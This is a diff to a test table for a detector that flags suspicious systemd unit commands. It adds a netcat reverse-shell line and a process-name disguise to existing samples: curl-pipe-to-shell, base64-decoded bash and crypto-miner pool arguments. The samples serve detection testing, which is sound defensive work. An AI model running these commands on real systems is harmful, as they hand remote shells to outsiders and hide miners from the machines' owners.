@@ -40,6 +40,8 @@ ruleTable(systemdUnitSuspicious, {
     'a shell with a download': found('/bin/sh -c "curl -s https://e.example/x | sh"', 'runs a download'),
     base64: found('/bin/sh -c "echo aWQgPiAvdG1wL3g= | base64 -d | bash"', 'decodes base64'),
     'a pool': found('/usr/local/bin/m -o pool.supportxmr.com:443', 'pool.supportxmr.com'),
+    'a shell for somebody else': found('/usr/bin/nc 203.0.113.9 443 -e /bin/sh', 'hands a shell'),
+    'another name than its own': found('/bin/bash -c "exec -a \'[kcached]\' /usr/bin/defunct"', 'under the name of'),
     'a wallet': found(`/usr/local/bin/m -u ${STANDARD_WALLET}`, 'names a wallet'),
     'a name that droppers use': {
       ...one('/usr/local/bin/x', { name: 'c3pool_miner.service' }),
